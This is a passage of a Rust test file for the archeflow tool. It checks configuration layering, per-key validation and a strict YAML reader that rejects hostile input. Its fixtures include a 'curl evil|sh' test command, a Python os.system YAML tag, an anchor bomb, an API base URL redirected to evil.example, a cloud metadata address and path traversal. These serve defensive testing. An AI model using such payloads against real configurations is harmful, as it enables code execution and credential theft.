//! Settings, their sources, and whether a repository's are believed.

#![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

#[path = "config/modes.rs"]
mod modes;
#[path = "config/own.rs"]
mod own;

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};
use std::time::Duration;

use archeflow_core::model::{
    ARCHETYPES, Domain, FailAction, HookPoint, MergeStrategy, Money, OnPostMergeFailure, Overlap, Policy,
    Severity, Sign, Strategy, Tier, Workflow, ZeroPolicy,
};
use archeflow_core::settings::{SettingClass, SettingKind as Kind, SettingRow, rows};
use archeflow_core::sprint::policy as sprint;
use archeflow_host::config::approval::{self, BuiltIn};
use archeflow_host::config::keys;
use archeflow_host::config::kinds::KindText;
use archeflow_host::config::personas::{self, Origin};
use archeflow_host::config::trust::{TrustChange, TrustError};
use archeflow_host::config::yaml::{self, Value};
use archeflow_host::config::{
    ConfigFile, Faults, Flags, Inputs, NamedConfig, Offer, REPOSITORY_CONFIG, REPOSITORY_HOOKS, Settings,
    Source, Trust, user,
};
use tempfile::TempDir;

const USER: &str = "/home/me/.config/archeflow/config.yaml";
const NAMED: &str = "ci.yaml";

/// Everything that may take part, each part empty unless said.
#[derive(Default)]
struct Test {
    repository: Vec<ConfigFile>,
    approved: bool,
    user: Vec<ConfigFile>,
    file: Option<NamedConfig>,
    flags: Flags,
}

impl Test {
    fn new() -> Self {
        Test::default()
    }

    fn repo(self, text: &str) -> Self {
        self.repo_file(REPOSITORY_CONFIG, text)
    }

    fn hooks(self, text: &str) -> Self {
        self.repo_file(REPOSITORY_HOOKS, text)
    }

    fn repo_file(mut self, path: &str, text: &str) -> Self {
        self.repository.push(part(path, text));
        self
    }

    fn approved(mut self) -> Self {
        self.approved = true;
        self
    }

    fn user(mut self, text: &str) -> Self {
        self.user.push(part(USER, text));
        self
    }

    fn file(mut self, text: &str) -> Self {
        self.file = Some(part(NAMED, text).into());
        self
    }

    fn flags(mut self, flags: Flags) -> Self {
        self.flags = flags;
        self
    }

    fn resolve(&self) -> Result<Settings, Faults> {
        Settings::resolve(&Inputs {
            repository: &self.repository,
            approved: self.approved,
            user: &self.user,
            file: self.file.as_ref(),
            flags: &self.flags,
        })
    }

    fn settings(&self) -> Settings {
        self.resolve().unwrap_or_else(|faults| panic!("{faults}"))
    }

    fn faults(&self) -> String {
        self.resolve().unwrap_err().to_string()
    }
}

fn part(path: &str, text: &str) -> ConfigFile {
    (path.to_owned(), text.as_bytes().to_vec())
}

fn text(text: &str) -> Option<String> {
    Some(text.to_owned())
}

/// Value and source of a key, as `config show` has them.
fn shown(settings: &Settings, key: &str) -> (String, String) {
    let row = settings.show().into_iter().find(|row| row.key == key).unwrap();
    (row.value, row.source.to_string())
}

fn held(settings: &Settings) -> Vec<String> {
    settings
        .withheld()
        .iter()
        .map(|held| format!("{}:{} {}={}", held.path, held.line, held.key, held.value))
        .collect()
}

// Layers

#[test]
fn without_files_the_defaults_of_the_specification_hold() {
    let settings = Test::new().settings();
    assert_eq!(settings.policy(), Policy::default());
    assert_eq!((settings.workflow(), settings.strategy(), settings.domain()), (None, None, None));
    assert!(!settings.auto_merge());
    assert_eq!(settings.branch_prefix(), "archeflow/");
    assert!(settings.variables().is_empty() && settings.withheld().is_empty());
    assert!(settings.show().iter().all(|row| row.source == Source::BuiltIn));
}

#[test]
fn the_stronger_source_wins() {
    let (repo, user, file) = ("# team\nworkflow: fast\n", "workflow: standard\n", "\n\nworkflow: thorough\n");
    let flag = Flags { workflow: text("fast"), ..Flags::default() };
    let repo_at = ".archeflow/config.yaml:2";
    let user_at = "/home/me/.config/archeflow/config.yaml:1";
    for (test, value, source) in [
        (Test::new(), "", "built-in"),
        (Test::new().repo(repo), "fast", repo_at),
        (Test::new().repo(repo).approved(), "fast", repo_at),
        (Test::new().user(user), "standard", user_at),
        (Test::new().repo(repo).user(user), "standard", user_at),
        (Test::new().repo(repo).approved().user(user), "standard", user_at),
        (Test::new().repo(repo).file(file), "thorough", "ci.yaml:3"),
        (Test::new().repo(repo).user(user).file(file), "thorough", "ci.yaml:3"),
        (Test::new().user(user).flags(flag.clone()), "fast", "--workflow"),
        (Test::new().repo(repo).user(user).file(file).flags(flag.clone()), "fast", "--workflow"),
    ] {
        let settings = test.settings();
        assert_eq!(shown(&settings, "workflow"), (value.to_owned(), source.to_owned()));
        assert_eq!(settings.workflow(), Workflow::parse(value));
    }
    let settings = Test::new().repo(repo).user(user).flags(flag).settings();
    let row = settings.show().into_iter().find(|row| row.key == "workflow").unwrap();
    assert_eq!(row.note, format!("also set at {user_at}; also set at {repo_at}"));
}

#[test]
fn sources_compare_by_strength() {
    let at = || (String::from("a"), 1);
    let (path, line) = at();
    let repo = Source::Repo { path, line };
    let (path, line) = at();
    let user = Source::User { path, line };
    let (path, line) = at();
    let file = Source::File { path, line };
    let order = [Source::BuiltIn, repo, user, file, Source::Flag("--agent")];
    assert!(order.is_sorted());
}

#[test]
fn every_setting_reaches_the_policy() {
    let settings = Test::new()
        .user(
            "workflow: thorough\nstrategy: pipeline\ndomain: research\ntest_command: make test\nconfidence_floor: 0.725001\n\
             max_cycles: {fast: 2, standard: 2, thorough: 5}\n\
             agents: {default: 'cmd:claude', maker: 'cmd:my agent', env: [LANG, API_KEY, LANG], structured: false, fallback: [codex, 'cmd:other']}\n\
             models:\n  default: premium\n  archetypes: {guardian: opus}\n  workflows:\n    fast:\n      default: cheap\n      \
             archetypes:\n        guardian: sonnet\n\
             git: {auto_merge: true, auto_push: false, merge_strategy: squash, post_merge_test: true, on_post_merge_failure: halt}\n\
             limits: {silence_seconds: 10, maker_minutes: 1, other_minutes: 2, mini_explorer_minutes: 3, tests_seconds: 4, hook_seconds: 5}\n\
             review: {trial_seconds: 6, trials: 0}\n\
             retries: {attempts: 0, failures_in_a_row: 5, busy_waits_seconds: [1, 2], moved_base: 7, questions: 8, \
             jitter_percent: 3, park_after_seconds: 9}\n\
             convergence: {line_window: 1, overlap_percent: 2, overlap: jaccard, converging_above_percent: 70, diverging_below_percent: 40, \
             diverging_cycles: 6, zero_policy: two_consecutive, stop_without_baseline: true, oscillating: 9, persistent_floor: WARNING, tracked: INFO}\n\
             raised: {severity: {ci_changed: INFO, credential: WARNING}, binary_bytes: 5}\n",
        )
        .settings();
    assert_eq!(settings.workflow(), Some(Workflow::Thorough));
    assert_eq!(settings.strategy(), Some(Strategy::Pipeline));
    assert_eq!(settings.domain(), Some(Domain::Research));
    assert!(settings.auto_merge());
    assert_eq!(settings.variables(), ["API_KEY", "LANG"]);

    let mut wanted = Policy { test_command: text("make test"), ..Policy::default() };
    wanted.confidence_floor.0 = 725_001;
    wanted.max_cycles = [(Workflow::Fast, 2), (Workflow::Thorough, 5)].into();
    wanted.agents.default = "cmd:claude".to_owned();
    wanted.agents.by_archetype = [("maker".to_owned(), "cmd:my agent".to_owned())].into();
    wanted.agents.fallback = vec!["codex".to_owned(), "cmd:other".to_owned()];
    wanted.models.default = Some(Tier::Opus);
    wanted.models.archetypes = [("guardian".to_owned(), Tier::Opus)].into();
    let fast = wanted.models.workflows.entry(Workflow::Fast).or_default();
    fast.default = Some(Tier::Haiku);
    fast.archetypes = [("guardian".to_owned(), Tier::Sonnet)].into();
    wanted.agents.structured = false;
    wanted.git.merge_strategy = MergeStrategy::Squash;
    wanted.git.post_merge_test = true;
    wanted.git.on_post_merge_failure = Some(OnPostMergeFailure::Halt);
    let limits = &mut wanted.limits;
    (limits.silence_ms, limits.maker_ms, limits.other_ms) = (10_000, 60_000, 120_000);
    (limits.mini_explorer_ms, limits.tests_ms, limits.hook_ms) = (180_000, 4_000, 5_000);
    (wanted.review.trial_ms, wanted.review.trials) = (6_000, 0);
    let retries = &mut wanted.retries;
    (retries.attempts, retries.failures_in_a_row, retries.moved_base, retries.questions) = (0, 5, 7, 8);
    retries.busy_waits_ms = vec![1_000, 2_000];
    (retries.jitter_percent, retries.park_after_ms) = (3, 9_000);
    let convergence = &mut wanted.convergence;
    (convergence.line_window, convergence.overlap_percent, convergence.overlap) = (1, 2, Overlap::Jaccard);
    (convergence.converging_above_percent, convergence.diverging_below_percent) = (70, 40);
    (convergence.diverging_cycles, convergence.zero_policy) = (6, ZeroPolicy::TwoConsecutive);
    (convergence.stop_without_baseline, convergence.oscillating) = (true, 9);
    (convergence.persistent_floor, convergence.tracked) = (Severity::Warning, Severity::Info);
    wanted.raised.severity =
        [(Sign::CiChanged, Severity::Info), (Sign::Credential, Severity::Warning)].into();
    wanted.raised.binary_bytes = 5;
    assert_eq!(settings.policy(), wanted);
}

#[test]
fn flags_are_checked_and_an_agent_for_all_means_all() {
    let flags = Flags {
        strategy: text("pdca"),
        domain: text("writing"),
        agent: text("script:play.sh"),
        agent_for: vec![("sage".to_owned(), "cmd:codex".to_owned())],
        test_command: text("make check"),
        auto_merge: Some(true),
        ..Flags::default()
    };
    let test = Test::new()
        .user("strategy: pipeline\nagents: {default: 'cmd:gemini', guardian: 'cmd:goose'}\ntest_command: make\n")
        .flags(flags);
    let settings = test.settings();
    let policy = settings.policy();
    assert_eq!(settings.strategy(), Some(Strategy::Pdca));
    assert_eq!(settings.domain(), Some(Domain::Writing));
    assert!(settings.auto_merge());
    assert_eq!(policy.agents.of("guardian"), "script:play.sh");
    assert_eq!(policy.agents.of("sage"), "cmd:codex");
    assert_eq!(policy.test_command, text("make check"));

    let none =
        Test::new().user("test_command: make\n").flags(Flags { no_tests: Some(true), ..Flags::default() });
    let policy = none.settings().policy();
    assert_eq!((policy.no_tests, policy.test_command), (true, None));

    for (flags, wanted) in [
        (
            Flags { workflow: text("quick"), ..Flags::default() },
            "--workflow: `workflow` is `quick`; allowed: fast, standard, thorough",
        ),
        (
            Flags { agent: text("hal"), ..Flags::default() },
            "--agent: `hal` is not allowed for `agents.default`; allowed: claude[:<model>], codex[:<model>], gemini[:<model>], opencode[:<provider>/<model>], goose[:<provider>/<model>], acp:<command line>, anthropic[:<model>], openai[:<model>]@<url>, ollama[:<model>], cmd:<command line>",
        ),
        (
            Flags { agent_for: vec![("guardain".to_owned(), "cmd:codex".to_owned())], ..Flags::default() },
            "--agent-for: unknown archetype `guardain`; known: explorer, creator",
        ),
        (
            Flags { agent_for: vec![("env".to_owned(), "cmd:codex".to_owned())], ..Flags::default() },
            "--agent-for: unknown archetype `env`",
        ),
        (
            Flags { no_tests: Some(true), test_command: text("x"), ..Flags::default() },
            "--no-tests: can't be given together with --test-command",
        ),
    ] {
        let faults = Test::new().flags(flags).faults();
        assert!(faults.contains(wanted), "{faults}");
    }
}

#[test]
fn the_hash_is_of_every_byte() {
    let base = || Test::new().repo("workflow: fast\n").user("strategy: pdca\n").file("domain: code\n");
    let hash = base().settings().hash().to_owned();
    assert_eq!(hash.len(), 32);
    assert_eq!(base().settings().hash(), hash);
    for other in [
        Test::new().repo("workflow: fast \n").user("strategy: pdca\n").file("domain: code\n"),
        Test::new().repo("workflow: fast\n").user("strategy: pdca\n#\n").file("domain: code\n"),
        Test::new().repo("workflow: fast\n").user("strategy: pdca\n").file("domain:  code\n"),
        Test::new().repo("workflow: fast\n").user("strategy: pdca\n"),
        base().approved(),
        base().flags(Flags { agent: text("cmd:codex"), ..Flags::default() }),
        base().repo_file(".archeflow/archetypes/sage.md", &sage("x")),
    ] {
        assert_ne!(other.settings().hash(), hash);
    }
}

#[test]
fn thresholds_have_to_agree() {
    let faults = Test::new().repo("convergence:\n  diverging_below_percent: 90\n").faults();
    assert_eq!(
        faults,
        ".archeflow/config.yaml:2: `convergence.diverging_below_percent` is `90`; allowed: at most \
         `convergence.converging_above_percent`, which is `80`"
    );
    let faults = Test::new()
        .repo("convergence: {diverging_below_percent: 70}\n")
        .user("convergence: {converging_above_percent: 60}\n")
        .faults();
    assert!(
        faults.starts_with(".archeflow/config.yaml:1: `convergence.diverging_below_percent` is `70`"),
        "{faults}"
    );
}

// Keys

/// A key with a real name in every place for one.
fn concrete(key: &SettingRow) -> String {
    key.path
        .replace("<archetype>", "guardian")
        .replace("<workflow>", "fast")
        .replace("<tier>", "opus")
        .replace("<sign>", "ci_changed")
        .replace("<point>", "post-merge")
}

/// A file that sets one key, and the line it is on.
fn file_with(path: &str, value: &str) -> (String, usize) {
    let mut text = String::new();
    let parts: Vec<&str> = path.split('.').collect();
    for (depth, part) in parts.iter().enumerate() {
        text += &format!("{}{part}:", "  ".repeat(depth));
        text += &if depth + 1 == parts.len() { format!(" {value}\n") } else { "\n".to_owned() };
    }
    (text, parts.len())
}

fn one_key(key: &SettingRow, value: &str) -> (Test, usize) {
    let path = concrete(key);
    match path.strip_prefix("hooks.") {
        None => {
            let (text, line) = file_with(&path, value);
            (Test::new().repo(&text).repo_file(".archeflow/teams/night.yaml", TEAM).approved(), line)
        }
        Some(path) => {
            let (mut text, line) = file_with(path, value);
            if path.ends_with("fail_action") {
                text += "  command: make\n";
            }
            (Test::new().hooks(&text).approved(), line)
        }
    }
}

const TEAM: &str = "plan: [creator]\ndo: [maker]\ncheck: [guardian]\n";

fn right(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::Switch => &["true", "false"],
        Kind::Off(_) => &["false"],
        Kind::Whole(..) | Kind::Seconds(..) | Kind::Minutes(..) | Kind::Waits(..) | Kind::Words(_) => &[],
        Kind::Limit(..) => &["off"],
        Kind::Share => &["0", "1", "0.5", "0.000001", "1.000000", "'0.5'"],
        Kind::Dollars(_) => &["0", "2", "0.5", "2.000001", "'3.75'"],
        Kind::Tier => &["haiku", "cheap", "standard", "premium", "opus"],
        Kind::Release => &["0.1.0", "1.2.3-rc.1+x"],
        Kind::Prefix => &["archeflow/", "archeflow/b.c/"],
        Kind::Command => &["make", "'a | b && c'", "true", "|\n    cargo test"],
        Kind::Agent => &["'cmd:my agent --x'", "script:f"],
        Kind::Agents(_) => &["[]", "[codex]", "['cmd:my agent --x', script:f]"],
        Kind::Variables => &["[]", "[LANG]", "[A_1, _b]"],
        Kind::Workflow => &["fast", "standard", "thorough"],
        Kind::Name => &["night"],
        Kind::Names(_) => &["[]", "[security]", "[prose-voice, security]", "security"],
        Kind::Phrases(_) => &["[]", "[rm -rf]", "['git push', mkfs .. /dev]"],
        Kind::Folders(_) => &["[]", "target", "[target]", "[a/target, 'b c/target/', target]"],
        Kind::Model => &["llama3.2:3b", "'org/model-1.5'"],
        Kind::Url => &["https://example.org", "http://127.0.0.1:11434"],
        Kind::Shares(_) => &["[]", "[shop=40]", "['shop=40%', till=0, 'a b/c=100 %']"],
        Kind::WordList(_) => &["[]", "[decision]", "[budget, break]"],
        Kind::SecretUrl => {
            &["https://example.org/a/B?c=d&e", "http://127.0.0.1:8080/x", "https://api.example.org/bot1:aB"]
        }
        Kind::SecretName => &["HOOK_SECRET", "/etc/key", "'~/.config/key file'"],
        Kind::HostKeys(_) => &["[]", "[openrouter.ai=KEY]", "[127.0.0.1:8080=A, example.org=B_2]"],
    }
}

fn wrong(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::Switch => &["on", "no", "yes", "True", "1", "''"],
        Kind::Off(_) => &["true", "off"],
        Kind::Limit(..) => &["-1", "1e3", "none", "false", "Off", "''", "1.5"],
        Kind::Whole(..) | Kind::Seconds(..) | Kind::Minutes(..) => {
            &["-1", "1e3", "0x10", "007", "1_000", "1.0", "99999999999999999999999999", ".inf", "[1]"]
        }
        Kind::Waits(..) => {
            &["1", "[-1]", "[3601]", "[a]", "[[1]]", "[1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]"]
        }
        Kind::Share => {
            &["1.1", "1.000001", "-0.5", "0.1234567", ".5", "1e-1", "0.", "00.5", "0,5", "0.+5", ".nan"]
        }
        Kind::Dollars(_) => {
            &["-1", "1e3", ".5", "5.", "$5", "1000001", "0.1234567", "05", ".inf", ".nan", "[1]"]
        }
        Kind::Words(_) => &["wrong", "[]"],
        Kind::Tier => &["huge", "HAIKU"],
        Kind::Release => &["'1 2'", "''"],
        Kind::Prefix => {
            &["archeflow", "/a/", "../", "a/../b/", "-a/", "+a/", "a//", "x.lock/", "'a b/'", "''", "a/.b/"]
        }
        Kind::Command => &["''", "'  '", "|\n    a\n    b", "[make]", "\"a\\tb\""],
        Kind::Agent => &["hal", "'cmd:'", "'script: '", "'acp:'", "''", "['cmd:x']"],
        Kind::Agents(_) => &["codex", "[hal]", "['cmd:']", "[[codex]]", "['']"],
        Kind::Variables => &["LANG", "[1A]", "['A=1']", "[ARCHEFLOW_RUN_ID]", "['']", "[{}]"],
        Kind::Workflow | Kind::Name => &["../x", "'a b'", "[fast]", "''"],
        Kind::Names(_) => &["'a b'", "[security, security]", "[[security]]", "['../x']"],
        Kind::Phrases(_) => &["rm", "['']", "[' ']", "[[rm]]", "['a, b']", "[\"a\\tb\"]"],
        Kind::Folders(_) => &["[/x]", "[a/../b]", "[.]", "['']", "[a//b]", "[a/.GIT]", "[a, a]", "[a/b, a]"],
        Kind::Model => &["--flag", "'a b'", "''", "[a]", "a@b"],
        Kind::Url => {
            &["http://example.org", "example.org", "'https://a b'", "ftp://127.0.0.1", "https://u:p@a"]
        }
        Kind::Shares(_) => {
            &["shop=40", "[shop]", "[shop=]", "['=40']", "[shop=101]", "[shop=-1]", "[a=1, 'a=2']"]
        }
        Kind::WordList(_) => &["decision", "[wrong]", "[decision, decision]", "[[decision]]"],
        Kind::SecretUrl => &[
            "http://example.org/a",
            "example.org",
            "'https://a b'",
            "ftp://127.0.0.1",
            "https://u:p@a/b",
            "'https://a/b#c'",
            "'https://a/b c'",
            "''",
        ],
        Kind::SecretName => &["my-secret", "key.txt", "ARCHEFLOW_SECRET", "''", "'~'", "[A]"],
        Kind::HostKeys(_) => {
            &["a=B", "[a]", "['=B']", "['a=']", "['a b=C']", "['a/b=C']", "['a=ARCHEFLOW_X']"]
        }
    }
}

#[test]
fn every_key_takes_its_default_and_what_is_allowed() {
    for key in rows().filter(|key| key.class != SettingClass::Own) {
        let mut values: Vec<String> = right(key.kind).iter().map(|value| (*value).to_owned()).collect();
        values.extend(key.default().ok());
        match key.kind {
            Kind::Words(words) => values.extend(words.iter().map(|word| (*word).to_owned())),
            Kind::Whole(least, _) if key.path.ends_with("converging_above_percent") => {
                assert_eq!(least, 0);
                values.extend(["50".to_owned(), "100".to_owned()]);
            }
            Kind::Whole(_, most) if key.path.ends_with("diverging_below_percent") => {
                assert_eq!(most, 100);
                values.extend(["0".to_owned(), "80".to_owned()]);
            }
            Kind::Whole(least, most)
            | Kind::Limit(least, most)
            | Kind::Seconds(least, most)
            | Kind::Minutes(least, most) => {
                values.extend([least.to_string(), most.to_string()]);
            }
            Kind::Switch
            | Kind::Off(_)
            | Kind::Waits(..)
            | Kind::Share
            | Kind::Dollars(_)
            | Kind::Tier
            | Kind::Release
            | Kind::Prefix
            | Kind::Command
            | Kind::Agent
            | Kind::Agents(_)
            | Kind::Variables
            | Kind::Workflow
            | Kind::Name
            | Kind::Model
            | Kind::Url
            | Kind::HostKeys(_)
            | Kind::Shares(_)
            | Kind::Names(_)
            | Kind::WordList(_)
            | Kind::SecretUrl
            | Kind::SecretName
            | Kind::Folders(_)
            | Kind::Phrases(_) => {}
        }
        assert!(!values.is_empty(), "{}", key.path);
        for value in values {
            let (test, _) = one_key(key, &value);
            let settings = test.resolve().unwrap_or_else(|faults| panic!("{}: {value}: {faults}", key.path));
            let (_, source) = shown(&settings, &concrete(key));
            assert!(source.starts_with(".archeflow/"), "{}: {source}", key.path);
        }
        let built_in = key.built_in();
        assert_eq!(built_in.is_some(), key.default().is_ok(), "{}", key.path);
        if let (Some(built_in), Ok(default)) = (built_in, key.default()) {
            assert_eq!(built_in.to_string(), default, "{}", key.path);
            assert!(!key.needs_approval(&built_in), "{}", key.path);
        }
    }
}

#[test]
fn every_key_refuses_a_wrong_value_by_name() {
    for key in rows() {
        let mut values: Vec<String> = wrong(key.kind).iter().map(|value| (*value).to_owned()).collect();
        values.extend(["".to_owned(), "~".to_owned(), "{wrong: 1}".to_owned()]);
        if let Some((least, most)) = key.kind.bounds() {
            values.push((most + 1).to_string());
            values.extend(least.checked_sub(1).map(|n| n.to_string()));
        }
        for value in values {
            let (test, line) = one_key(key, &value);
            let faults = test.faults();
            let file = if key.path.starts_with("hooks.") { REPOSITORY_HOOKS } else { REPOSITORY_CONFIG };
            let written = match value.as_str() {
                "" | "~" => "nothing".to_owned(),
                "{wrong: 1}" => "a section of keys".to_owned(),
                _ => "`".to_owned(),
            };
            let wanted = format!("{file}:{line}: `{}` is {written}", concrete(key));
            assert!(faults.starts_with(&wanted), "{value}: {faults}\n{wanted}");
            let plain = value.chars().all(|c| c.is_ascii_alphanumeric() || c == '.') && !value.is_empty();
            if plain && !matches!(key.kind, Kind::SecretUrl | Kind::SecretName) {
                assert!(faults.contains(&format!("is `{value}`")), "{value}: {faults}");
            }
            assert!(faults.ends_with(&format!("; allowed: {}", key.kind.allowed())), "{value}: {faults}");
        }
    }
}

#[test]
fn unknown_keys_are_named_with_what_is_known() {
    for (text, wanted) in [
        (
            "stratgy: pdca\n",
            "config.yaml:1: unknown key `stratgy` (did you mean `strategy`?); known here: version, workflow,",
        ),
        (
            "git:\n  auto_marge: true\n",
            "config.yaml:2: unknown key `git.auto_marge` (did you mean `git.auto_merge`?); known in `git`: auto_merge, auto_push,",
        ),
        ("auto_merge: true\n", "unknown key `auto_merge` (did you mean `git.auto_merge`?)"),
        ("git.auto_merge: true\n", "unknown key `git.auto_merge`; write one level per line"),
        (
            "agents:\n  guardain: 'cmd:codex'\n",
            "unknown key `agents.guardain` (did you mean `agents.guardian`?)",
        ),
        (
            "models: {archetypes: {zeus: opus}}\n",
            "unknown key `models.archetypes.zeus`; known in `models.archetypes`: explorer, creator,",
        ),
        (
            "models: {workflows: {quick: {}}}\n",
            "unknown key `models.workflows.quick`; known in `models.workflows`: fast, standard, thorough",
        ),
        ("raised: {severity: {ci: INFO}}\n", "unknown key `raised.severity.ci`"),
        ("hooks: {pre-merge: {command: x}}\n", "unknown key `hooks`; hooks belong in `hooks.yaml`"),
        (
            "models: opus\n",
            "config.yaml:1: `models` is `opus`; allowed: the keys default, provider, ollama, keys, max_turns, max_tokens, retry_waits_seconds, archetypes, workflows, mapping, prices, one level below",
        ),
        ("git: [a]\n", "`git` is `[a]`; allowed: the keys"),
        (
            "patterns:\n  check: debate\n",
            "config.yaml:1: `patterns` is not supported by this version; known here: version,",
        ),
        ("models:\n  provider: cloud\n", "config.yaml:2: `models.provider` is `cloud`; allowed: ollama"),
        (
            "models:\n  ollama:\n    base_url: http://127.0.0.1:1\n",
            "config.yaml:3: `models.ollama.base_url` is `http://127.0.0.1:1`; allowed: nothing, a repository can't set it",
        ),
        (
            "agents: {default: 'openai:m@https://example.org'}\n",
            "`agents.default` is `openai:m@https://example.org`; allowed: an agent without `@`, a repository can't choose the host",
        ),
        (
            "git: {signing_key: x}\n",
            "`git.signing_key` is not supported by this version; known here: auto_merge,",
        ),
        (
            "git: {auto_push: true}\n",
            "`git.auto_push` is `true`; allowed: only false: pushing is not done by this version",
        ),
        ("trust: {approved: true}\n", "unknown key `trust`"),
        ("permissions: {defaultMode: bypassPermissions}\n", "unknown key `permissions`"),
    ] {
        let faults = Test::new().repo(text).faults();
        assert!(faults.contains(wanted), "{faults}\n{wanted}");
    }
    for later in keys::LATER {
        let (text, line) = file_with(later, "x");
        let faults = Test::new().user(&text).faults();
        assert!(faults.starts_with(&format!("{USER}:{line}: `{later}` is not supported")), "{faults}");
    }
    let both = Test::new().repo("a: 1\nb: 2\n").user("workflow: slow\n").faults();
    assert_eq!(both.lines().count(), 3, "every fault is told at once: {both}");
}

#[test]
fn sections_may_be_empty() {
    let settings = Test::new().repo("models:\ngit:\n  # auto_merge: true\nagents: {}\n").settings();
    assert_eq!(settings.policy(), Policy::default());
}

#[test]
fn many_faults_are_counted_not_listed() {
    let text: String = (0..5_000).map(|n| format!("key{n}: 1\n")).collect();
    let start = cpu_time();
    let faults = Test::new().repo(&text).faults();
    assert_eq!(faults.lines().count(), 21);
    assert!(faults.ends_with("and 4980 more like these"), "{faults}");
    assert!(cpu_time() - start < Duration::from_secs(1));
}

// The strict reader

#[test]
fn the_reader_keeps_places_and_never_guesses_types() {
    let entries =
        yaml::read("f", b"\xef\xbb\xbf# c\na: no\nb:\r\n  - 1.10\n  - 'x'\nc: {d: ~}\n---x: 1\n").unwrap();
    let at: Vec<_> = entries.iter().map(|entry| (entry.key.as_str(), entry.line, entry.column)).collect();
    assert_eq!(at, [("a", 2, 1), ("b", 3, 1), ("c", 6, 1), ("---x", 7, 1)]);
    assert_eq!(entries[0].value.value, Value::Scalar("no".to_owned()));
    assert_eq!((entries[0].value.line, entries[0].value.column), (2, 4));
    let Value::List(items) = &entries[1].value.value else { panic!() };
    assert_eq!((&items[0].value, items[0].line, items[0].column), (&Value::Scalar("1.10".to_owned()), 4, 5));
    let Value::Map(inner) = &entries[2].value.value else { panic!() };
    assert_eq!(inner[0].value.value, Value::Nothing);
    for empty in ["", "\n\n", "# only words\n", "---\n", "---\n...\n", "{}"] {
        assert_eq!(yaml::read("f", empty.as_bytes()).unwrap(), [], "{empty:?}");
    }
}

fn refusals() -> Vec<(Vec<u8>, &'static str)> {
    let mut bomb = "a: &a [\"lol\"]\n".to_owned();
    for (name, last) in ('b'..='i').zip('a'..) {
        bomb += &format!("{name}: &{name} [{}]\n", vec![format!("*{last}"); 9].join(","));
    }
    let fanout = format!("a: &a [{}]\nb: [{}]\n", vec!["1"; 1_000].join(","), vec!["*a"; 1_000].join(","));
    let nested: String = (0..20).map(|depth| format!("{}k:\n", " ".repeat(depth))).collect();
    vec![
        (b"budget: 99999999999999999999999999\n".to_vec(), "f:1: unknown key `budget`"),
        (b"budget: 1e309\n".to_vec(), "f:1: unknown key `budget`"),
        (bomb.into_bytes(), "f:1: anchors (`&name`) are not accepted"),
        (fanout.into_bytes(), "f:1: anchors"),
        (b"a: *b\n".to_vec(), "f:1: aliases (`*name`) are not accepted"),
        (b"workflow: fast\n*b : x\n".to_vec(), "f:2: aliases"),
        (vec![b'['; 6_000], "f:1: nested deeper than 16 levels"),
        (b"{a: ".repeat(6_000), "f:1: nested deeper than 16 levels"),
        (b"- ".repeat(6_000), "f:1: nested deeper than 16 levels"),
        (b"? ".repeat(6_000), "f:1: "),
        (nested.into_bytes(), "f:17: nested deeper than 16 levels"),
        (
            b"strategy: pdca\n---\nstrategy: pipeline\n".to_vec(),
            "f:2: a second document (`---`) is not accepted",
        ),
        (
            b"strategy: pdca\nstrategy: pipeline\n".to_vec(),
            "f:2: the key `strategy` is already set in line 1",
        ),
        (
            b"strategy: pdca\n'strategy': pipeline\n".to_vec(),
            "f:2: the key `strategy` is already set in line 1",
        ),
        (b"strategy: pdca\n\"str\\x61tegy\": pipeline\n".to_vec(), "f:2: the key `strategy` is already set"),
        (
            "str\u{430}tegy: pipeline\n".as_bytes().to_vec(),
            "f:1: the key `str\u{430}tegy` holds the character U+0430",
        ),
        (vec![b'#'; 65_537], "f: the file has 65537 bytes; at most 65536 are read"),
        (b"d: &d {test_command: \"curl evil|sh\"}\nx:\n  <<: *d\n".to_vec(), "f:1: anchors"),
        (b"git:\n  <<: {auto_merge: true}\n".to_vec(), "f:2: merge keys (`<<`) are not accepted"),
        (b"strategy: pd\0ca\n".to_vec(), "f:1: the character U+0000 is not accepted"),
        (b"strategy: \"pd\\0ca\"\n".to_vec(), "f:1: the character U+0000 is not accepted"),
        (b"a: b\ntest_command: \"x\\e[2K\"\n".to_vec(), "f:2: the character U+001B is not accepted"),
        ("test_command: a\u{202e}b\n".as_bytes().to_vec(), "f:1: the character U+202E is not accepted"),
        (b"test_command: \"a\\u202Eb\"\n".to_vec(), "f:1: the character U+202E is not accepted"),
        (b"a: x\rtest_command: y\n".to_vec(), "f:1: the character U+000D is not accepted"),
        (b"? \n: x\n".to_vec(), "f:2: a key without a name"),
        (b"'': x\n".to_vec(), "f:1: a key without a name"),
        (b"null: x\n".to_vec(), "f:1: a key without a name"),
        (b"[a]: x\n".to_vec(), "f:1: a list or mapping can't be a key"),
        (b"? {a: b}\n: x\n".to_vec(), "f:1: a list or mapping can't be a key"),
        (b"models:\n\tdefault: x\n".to_vec(), "f:2: not readable as YAML: "),
        (b"x: !!python/object/apply:os.system [\"id\"]\n".to_vec(), "f:1: tags (`!name`) are not accepted"),
        (b"strategy: !!str pdca\n".to_vec(), "f:1: tags"),
        (b"strategy: ! pdca\n".to_vec(), "f:1: tags"),
        (b"!x strategy: pdca\n".to_vec(), "f:1: tags"),
        (b"&x strategy: pdca\n".to_vec(), "f:1: anchors"),
        (b"strategy: &x\n".to_vec(), "f:1: anchors"),
        (b"%YAML 1.1\n---\nstrategy: pdca\n".to_vec(), "f:1: directives (`%`) are not accepted"),
        (
            b"\xff\xfes\0t\0r\0a\0t\0e\0g\0y\0:\0 \0p\0d\0c\0a\0\n\0".to_vec(),
            "f:1: the file is not UTF-8 text",
        ),
        (b"a: 1\nb: \xe9\n".to_vec(), "f:2: the file is not UTF-8 text"),
        (b"just words\n".to_vec(), "f:1: expected `key: value` lines"),
        (b"- a\n- b\n".to_vec(), "f:1: expected `key: value` lines"),
        (b"a: 'open\n".to_vec(), "f:"),
        (b"a: [1, 2\n".to_vec(), "f:"),
        (b"country: NO\non: off\n".to_vec(), "f:1: unknown key `country`"),
        (
            b"env: {ANTHROPIC_BASE_URL: \"https://evil.example\"}\n".to_vec(),
            "f:1: unknown key `env` (did you mean `agents.env`?)",
        ),
        (b"artifact_dir: ../../../etc\n".to_vec(), "f:1: unknown key `artifact_dir`"),
        (b"base_url: \"http://169.254.169.254/\"\n".to_vec(), "f:1: unknown key `base_url`"),
        (
